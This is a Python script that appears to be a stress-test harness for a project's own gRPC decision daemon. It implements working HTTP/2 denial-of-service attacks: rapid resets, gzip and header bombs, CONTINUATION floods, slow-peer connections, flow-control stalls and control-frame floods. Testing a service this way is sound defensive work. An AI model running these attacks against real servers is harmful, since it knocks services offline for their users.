"""Attacks on a daemon, by one process: `attacks.py HOST:PORT CASE SECONDS`.

Each goes on until the time is over, whatever the daemon does.
"""
import contextlib
import functools
import gzip
import socket
import struct
import sys
import time

import hpack

DECIDE, BATCH, EXPLAIN = (f"/bespoke.v1.DecisionService/{name}" for name in ("Decide", "BatchDecide", "Explain"))
REFLECT = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
GREETING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW = 0, 1, 2, 3, 4, 6, 8
END_STREAM, END_HEADERS = 1, 4
WINDOW_SETTING = 4
LONG_SECONDS = 5


def frame(kind, flags=0, stream=0, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


@functools.cache
def head(path, *more):
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "a"),
              ("content-type", "application/grpc"), ("te", "trailers"), *more]
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*field) for field in fields], huffman=False)


def message(content, flag=0):
    return bytes([flag]) + len(content).to_bytes(4, "big") + content


def call(path, stream, content, *more, end=True):
    return frame(HEADERS, END_HEADERS, stream, head(path, *more)) + frame(DATA, END_STREAM if end else 0, stream, content)


class Attack:
    """Where it goes, and how long."""

    def __init__(self, address, seconds):
        host, _, port = address.rpartition(":")
        self.address = (host, int(port))
        self.end = time.monotonic() + seconds
        # A batch holds the loop for as long as it takes, and a debug build takes ten times as long.
        self.batch = message(b"\x0a\x00" * (1_000 if seconds >= LONG_SECONDS else 100))

    def goes_on(self):
        return time.monotonic() < self.end

    def greet(self, *settings):
        opened = socket.create_connection(self.address)
        opened.sendall(GREETING + frame(SETTINGS, payload=b"".join(struct.pack(">HI", *one) for one in settings))
                       + frame(SETTINGS, 1))
        opened.settimeout(0.2)
        return opened

    def repeat(self, once):
        """Does it again on a new connection whenever the daemon has ended the one before."""
        while self.goes_on():
            with contextlib.suppress(OSError):
                once()

    def flood(self, content, *settings, before=b"", reads=False):
        """Sends the same over and over; what the daemon does not take within a moment is dropped."""
        def once():
            with self.greet(*settings) as peer:
                peer.sendall(before)
                while self.goes_on():
                    with contextlib.suppress(TimeoutError):
                        peer.sendall(content)
                    if reads:
                        peer.settimeout(0.001)
                        with contextlib.suppress(TimeoutError):
                            peer.recv(1 << 20)
                        peer.settimeout(0.2)
        self.repeat(once)

    def calls(self, make, count=900, *settings):
        """As many calls as one connection takes, then it waits."""
        def once():
            with self.greet(*settings) as peer:
                with contextlib.suppress(TimeoutError):
                    peer.sendall(b"".join(make(1 + 2 * number) for number in range(count)))
                self.wait(peer)
        self.repeat(once)

    def wait(self, *peers):
        """Until the daemon ends one, or the time is over; nothing is read but the end."""
        while self.goes_on():
            for peer in peers:
                peer.settimeout(0.02)
                with contextlib.suppress(TimeoutError):
                    if peer.recv(1, socket.MSG_PEEK) == b"":
                        return
            time.sleep(0.02)

    # The cases.

    def comes_and_goes(self):
        def once():
            with self.greet() as peer:
                peer.sendall(call(DECIDE, 1, message(b"")))
                peer.recv(9_999)
        self.repeat(once)

    def untaken_messages(self):
        question = message(b"\x22\x1abespoke.v1.DecisionService") * 300
        self.flood(frame(DATA, 0, 1, message(b"")) * 1_000, (WINDOW_SETTING, 0),
                   before=call(REFLECT, 1, question, end=False))

    def gzip_bombs(self):
        bomb = message(gzip.compress(b"\x7a\x80\xff\xff\x01" + bytes(4_194_176), 9), 1)
        self.calls(lambda stream: call(DECIDE, stream, bomb, ("grpc-encoding", "gzip")), 100)

    def unread_batches(self):
        self.calls(lambda stream: call(BATCH, stream, self.batch), 900, (WINDOW_SETTING, 0))

    def rapid_resets(self):
        def make(stream):
            return call(BATCH, stream, self.batch) + frame(RESET, 0, stream, b"\0\0\0\x08")
        self.calls(make)

    def header_bombs(self):
        first = b"\x40\x01z\x7f\xbd\x1d" + b"v" * 3_900
        blocks = [(first if stream == 1 else b"") + head(DECIDE) + b"\xbe" * 12_000 for stream in range(1, 121, 2)]
        self.calls(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, blocks[stream // 2][:16_384]), 60)

    def explanations(self):
        self.calls(lambda stream: call(EXPLAIN, stream, message(b"\x0a\x00")))

    def endless_bodies(self):
        def once():
            with self.greet() as peer:
                for stream in range(1, 101, 2):
                    peer.sendall(call(DECIDE, stream, b"\0\x00\x3f\xff\xff", end=False))
                    for _ in range(60):
                        peer.sendall(frame(DATA, 0, stream, b"x" * 16_384))
                self.wait(peer)
        self.repeat(once)

    def overflowing_windows(self):
        """The daemon must reset each stream: what costs it a call costs the peer four bytes."""
        def make(stream):
            return (call(BATCH, stream, self.batch)
                    + frame(WINDOW, 0, stream, (0x7FFFFFFF).to_bytes(4, "big")))
        self.calls(make, 4_000)

    def slow_peers(self):
        """Peers that say half a sentence and wait: the daemon must end every one of them."""
        beginnings = [b"", b"P", GREETING, GREETING + frame(SETTINGS) + frame(SETTINGS, 1) + frame(HEADERS, 0, 1, b"\x88"),
                      GREETING + frame(SETTINGS) + frame(SETTINGS, 1) + b"\0\1\0"]
        while self.goes_on():
            peers = []
            for beginning in beginnings * 10:
                peers.append(socket.create_connection(self.address))
                peers[-1].sendall(beginning)
            for peer in peers:
                peer.settimeout(10)
                with contextlib.suppress(ConnectionError):
                    while peer.recv(9_999):
                        pass
                peer.close()

    def settings_frames(self):
        self.flood(frame(SETTINGS, payload=struct.pack(">HI", WINDOW_SETTING, 65_535) * 32) * 300, reads=True)

    def pings(self):
        self.flood(frame(PING, payload=bytes(8)) * 2_000, reads=True)

    def empty_data(self):
        self.flood(frame(DATA, 0, 1) * 5_000, before=call(REFLECT, 1, b"", end=False), reads=True)

    def priorities(self):
        self.flood(frame(PRIORITY, 0, 1, b"\0\0\0\0\x01") * 3_000, reads=True)

    def windows(self):
        self.flood(frame(WINDOW, 0, 0, b"\0\0\0\x01") * 3_000, reads=True)

    def continuations(self):
        """Legal, one byte at a time, without end."""
        self.flood(frame(9, 0, 1, b"\0") * 3_000, before=frame(HEADERS, 0, 1, head(DECIDE)))


CASES = [name for name, case in vars(Attack).items()
         if callable(case) and name not in ("__init__", "goes_on", "greet", "repeat", "flood", "calls", "wait")]

if __name__ == "__main__":
    getattr(Attack(sys.argv[1], float(sys.argv[3])), sys.argv[2])()
